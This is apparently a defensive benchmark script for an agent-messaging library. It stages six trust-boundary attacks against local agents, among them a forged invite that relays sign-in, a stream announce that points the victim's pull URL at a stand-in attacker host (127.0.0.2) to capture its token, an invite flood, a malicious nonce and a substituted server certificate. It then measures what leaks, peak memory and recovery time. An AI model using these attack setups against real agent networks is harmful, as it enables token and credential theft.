"""Hostile-input attacks on the trust boundaries (issue 7 items 1-4, trust.md rules 1-3), for ``benchmarks/hostile.py``.

:func:`attacks` returns ``(name, callable)`` pairs; each callable starts a local dev network in this process (the
same as ``python -m agentcp devserver``), plays one attacker against agents built with the public API, and returns
``{"attack", "attacker got", "peak memory MB", "recovery s"}``:

* ``attacker got``: what reached the attacker's server on 127.0.0.2 (sign-in requests, proofs, tokens) or what the
  victim signed for it; ``"nothing"`` is the goal;
* ``peak memory MB``: peak of Python allocations (tracemalloc) during the attack, above the level before it;
* ``recovery s``: from the attack until the victim's next message is delivered (or, for the server-certificate
  attack, until sign-in to the real server works again). ``0`` never happens: it is always measured.

Run alone: ``python benchmarks/hostile_trust.py`` prints the table. Each attack takes a few seconds.
"""
from __future__ import annotations

import contextlib
import json
import logging
import os
import shutil
import sys
import tempfile
import threading
import time
import tracemalloc
from typing import Any, Callable, Dict, Iterator, List, Tuple

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))

from agentcp import AgentCP  # noqa: E402
from agentcp.testing.attacker import RecordingServer  # noqa: E402

DOMAIN = "bench.local"
SEED = "bench"
ATTACKER_HOST = "127.0.0.2"     # loopback, but not the access point's host: outside the agents' trust domain

Result = Dict[str, Any]


def _wait(pred: Callable[[], Any], timeout: float = 5.0) -> Any:
    deadline = time.monotonic() + timeout
    while True:
        value = pred()
        if value or time.monotonic() >= deadline:
            return value
        time.sleep(0.005)


@contextlib.contextmanager
def _network() -> Iterator[Tuple[Any, Any, Callable[[str], Any]]]:
    """``(server, access_point, make)``: a dev network and a factory of online agents; all stopped after."""
    from agentcp.testing.devserver import start_dev_network

    server, access_point = start_dev_network(port=0)
    folder = tempfile.mkdtemp(prefix="agentcp-hostile-")
    acp = AgentCP(folder, seed_password=SEED, run_proxy=False, ap_url=access_point.url)
    made: List[Any] = []

    def make(name: str) -> Any:
        aid = acp.create_aid(DOMAIN, name)
        made.append(aid)
        aid.online()
        if not aid.wait_online(5):
            raise RuntimeError(f"{aid.id} did not come online")
        return aid

    try:
        yield server, access_point, make
    finally:
        for aid in made:
            aid.offline()
        server.stop()
        shutil.rmtree(folder, ignore_errors=True)


def _pair(access_point: Any, make: Callable[[str], Any]) -> Tuple[Any, Any, str]:
    victim, peer = make("victim"), make("peer")
    sid = peer.create_session("chat", "")
    peer.invite_member(sid, victim.id)
    _wait(lambda: victim.session_manager.get(sid) is not None)
    access_point.messages.wait_for(lambda: victim.id in access_point.messages.members(sid))
    return victim, peer, sid


class _Measure:
    """Peak Python memory above the level at the start of the attack, and the recovery time after it."""

    def __enter__(self) -> "_Measure":
        self._started = not tracemalloc.is_tracing()
        if self._started:
            tracemalloc.start()
        tracemalloc.reset_peak()
        self.base = tracemalloc.get_traced_memory()[0]
        self.peak_mb = 0.0
        return self

    def attack_over(self) -> None:
        self.peak_mb = max(0.0, (tracemalloc.get_traced_memory()[1] - self.base) / 1e6)
        self.t_attack = time.monotonic()

    def recovered(self) -> float:
        return time.monotonic() - self.t_attack

    def __exit__(self, *exc: Any) -> None:
        if self._started:
            tracemalloc.stop()


def _delivered_after(victim: Any, peer: Any, sid: str, measure: _Measure) -> float:
    """Seconds until a message from the victim is delivered again (the victim works as before the attack)."""
    got = threading.Event()
    peer.add_message_handler(lambda msg: got.set(), session_id=sid)
    result = victim.send_message_content(sid, [peer.id], "still here")
    if not result or not got.wait(5):
        return float("inf")
    return measure.recovered()


def _got(server: RecordingServer, *secrets: str) -> str:
    parts = []
    if server.requests:
        parts.append(f"{len(server.requests)} request(s)")
    if server.proofs:
        parts.append(f"{len(server.proofs)} signed proof(s)")
    if server.stolen_tokens:
        parts.append(f"{len(server.stolen_tokens)} live token(s)")
    if any(server.saw(s) for s in secrets if s):
        parts.append("the victim's token")
    return ", ".join(parts) or "nothing"


# -- the attacks -------------------------------------------------------------------------------------------------


def forged_invite_relay() -> Result:
    """Item 1: a UDP invite from the heartbeat server's address names a relay as MessageServer."""
    with _network() as (server, access_point, make):
        victim, peer, sid = _pair(access_point, make)
        token = victim.session_manager.message_client.auth_client.signature
        with RecordingServer(ATTACKER_HOST, relay_to=access_point.messages.url) as relay, _Measure() as m:
            server.send_invite(victim.id, "mallory.bench.local", "s-evil", invite_code="X",
                               message_server=relay.url + "/message")
            server.wait_for_invite_responses(1, agent_id=victim.id)
            if relay.first_request.wait(0.5):   # it got something: give the relayed sign-in time to complete
                _wait(lambda: relay.stolen_tokens, 3.0)
            m.attack_over()
            recovery = _delivered_after(victim, peer, sid, m)
            got = _got(relay, token)
        return {"attack": "forged UDP invite naming a sign-in relay", "attacker got": got,
                "peak memory MB": round(m.peak_mb, 1), "recovery s": round(recovery, 3)}


def pull_url_token_theft() -> Result:
    """Item 2: a peer's stream announce points the victim's pull at the attacker's server."""
    with _network() as (server, access_point, make):
        victim, peer, sid = _pair(access_point, make)
        token = victim.session_manager.message_client.auth_client.signature
        pulled: List[str] = []
        victim.add_message_handler(lambda msg: pulled.append(victim.fetch_stream_message(msg)), session_id=sid)
        with RecordingServer(ATTACKER_HOST) as thief, _Measure() as m:
            block = {"type": "text/event-stream", "status": "loading", "timestamp": 1,
                     "content": thief.url + "/stream/pull?session_id=x&message_id=1"}
            peer.send_message(sid, [victim.id], [block])
            _wait(lambda: pulled)
            m.attack_over()
            got = _got(thief, token)
        recovery = _delivered_after(victim, peer, sid, m)
        return {"attack": "peer's stream announce naming the attacker's pull URL", "attacker got": got,
                "peak memory MB": round(m.peak_mb, 1), "recovery s": round(recovery, 3)}


def many_invites(trusted: bool = False) -> Result:
    """Item 3: 200 invites naming 200 different message servers."""
    old_env = os.environ.get("AGENTCP_TRUSTED_HOSTS")
    if trusted:
        os.environ["AGENTCP_TRUSTED_HOSTS"] = ATTACKER_HOST   # the operator trusts the host: only the cap holds
    try:
        with _network() as (server, access_point, make):
            victim, peer, sid = _pair(access_point, make)
            with RecordingServer(ATTACKER_HOST) as servers, _Measure() as m:
                threads = threading.active_count()
                for i in range(200):
                    server.send_invite(victim.id, "mallory.bench.local", f"s-{i}",
                                       message_server=f"{servers.url}/m{i}")
                server.wait_for_invite_responses(200, agent_id=victim.id, timeout=10)
                servers.first_request.wait(0.3)
                m.attack_over()
                recovery = _delivered_after(victim, peer, sid, m)
                clients = len(victim.session_manager.message_client_map)
                grew = threading.active_count() - threads
                got = _got(servers)
                signed_in = len(servers.proofs)
        what = "trusted" if trusted else "untrusted"
        if trusted:   # AGENTCP_TRUSTED_HOSTS names the host: signing in there is legitimate, the cap is what holds
            got = f"{signed_in} sign-ins to a host the operator trusts, no more"
        return {"attack": f"200 invites naming 200 {what} message servers",
                "attacker got": f"{got} ({clients} message clients, +{grew} threads)",
                "peak memory MB": round(m.peak_mb, 1), "recovery s": round(recovery, 3)}
    finally:
        if old_env is None:
            os.environ.pop("AGENTCP_TRUSTED_HOSTS", None)
        else:
            os.environ["AGENTCP_TRUSTED_HOSTS"] = old_env


def text_as_nonce() -> Result:
    """Rule 2: a (trusted) server offers a statement as the sign-in nonce."""
    from agentcp.base.auth_client import AuthClient
    from agentcp.testing import FakeACPServer

    with FakeACPServer(server_auth="none") as real:
        folder = tempfile.mkdtemp(prefix="agentcp-hostile-")
        try:
            real.issue_identity("victim.bench.local", folder, seed_password=SEED)
            with RecordingServer(ATTACKER_HOST, nonce="transfer 100 coins to mallory") as evil, _Measure() as m:
                auth = AuthClient("victim.bench.local", evil.url, folder, _seed_hex())
                try:
                    auth.sign_in(max_retry_num=3)
                finally:
                    auth.close()
                m.attack_over()
                got = "a signature over its text" if evil.proofs else "nothing"
            recovery = _signs_in_after(real.heartbeat_url, folder, m, strict=False)
        finally:
            shutil.rmtree(folder, ignore_errors=True)
    return {"attack": "server offering 'transfer 100 coins to mallory' as nonce", "attacker got": got,
            "peak memory MB": round(m.peak_mb, 1), "recovery s": round(recovery, 3)}


def agent_cert_as_server_cert() -> Result:
    """Item 4: strict server authentication, the server presents an ordinary agent's certificate (and key)."""
    from cryptography.hazmat.primitives.asymmetric import ec

    from agentcp.base.auth_client import AuthClient
    from agentcp.testing import FakeACPServer

    with FakeACPServer(server_auth="signed") as server:
        folder = tempfile.mkdtemp(prefix="agentcp-hostile-")
        try:
            server.issue_identity("victim.bench.local", folder, seed_password=SEED)
            pki = server.pki
            real = (pki.server_key, pki.server_cert)
            key = ec.generate_private_key(ec.SECP256R1())
            with _Measure() as m:
                pki.present_certificate(key, pki.issue_agent_cert("mallory.bench.local", key.public_key()),
                                        [pki.agent_ca_cert])
                before = len(server.sign_ins)
                auth = AuthClient("victim.bench.local", server.heartbeat_url, folder, _seed_hex(),
                                  strict_server_auth=True)
                try:
                    auth.sign_in(max_retry_num=3)
                finally:
                    auth.close()
                proofs = [r for r in server.sign_ins[before:] if r.step == 2]
                m.attack_over()
                got = f"{len(proofs)} signed proof(s), state {auth.server_auth_state}" if proofs or auth.signature \
                    else "nothing (refused: certificate does not name the server)"
                pki.present_certificate(*real)
                recovery = _signs_in_after(server.heartbeat_url, folder, m, strict=True)
        finally:
            shutil.rmtree(folder, ignore_errors=True)
    return {"attack": "agent certificate presented as server certificate (strict mode)", "attacker got": got,
            "peak memory MB": round(m.peak_mb, 1), "recovery s": round(recovery, 3)}


def _signs_in_after(url: str, folder: str, measure: _Measure, strict: bool) -> float:
    """Seconds from the attack until the victim signs in to the real server ``url`` again."""
    from agentcp.base.auth_client import AuthClient
    from agentcp.context.exceptions import AuthError

    auth = AuthClient("victim.bench.local", url, folder, _seed_hex(), strict_server_auth=strict)
    try:
        auth.sign_in_once()
        return measure.recovered()
    except AuthError:
        return float("inf")
    finally:
        auth.close()


def _seed_hex() -> str:
    from agentcp.ca.identity_store import hash_seed_password

    return hash_seed_password(SEED)


def attacks() -> List[Tuple[str, Callable[[], Result]]]:
    """Every trust-boundary attack of this file, as ``(name, callable)``."""
    return [
        ("forged UDP invite → sign-in relay", forged_invite_relay),
        ("stream announce → pull-URL token theft", pull_url_token_theft),
        ("200 invites naming 200 untrusted servers", lambda: many_invites(False)),
        ("200 invites naming 200 trusted servers", lambda: many_invites(True)),
        ("text offered as nonce", text_as_nonce),
        ("agent certificate as server certificate", agent_cert_as_server_cert),
    ]


def main() -> int:
    logging.basicConfig(level=logging.ERROR)
    rows = []
    for name, run in attacks():
        started = time.monotonic()
        result = run()
        print(f"  {name}: {json.dumps(result, ensure_ascii=False)} ({time.monotonic() - started:.1f} s)", flush=True)
        rows.append(result)
    print("\n| attack | attacker got | peak memory MB | recovery s |\n|---|---|---:|---:|")
    for r in rows:
        print(f"| {r['attack']} | {r['attacker got']} | {r['peak memory MB']} | {r['recovery s']} |")
    return 0


if __name__ == "__main__":
    sys.exit(main())
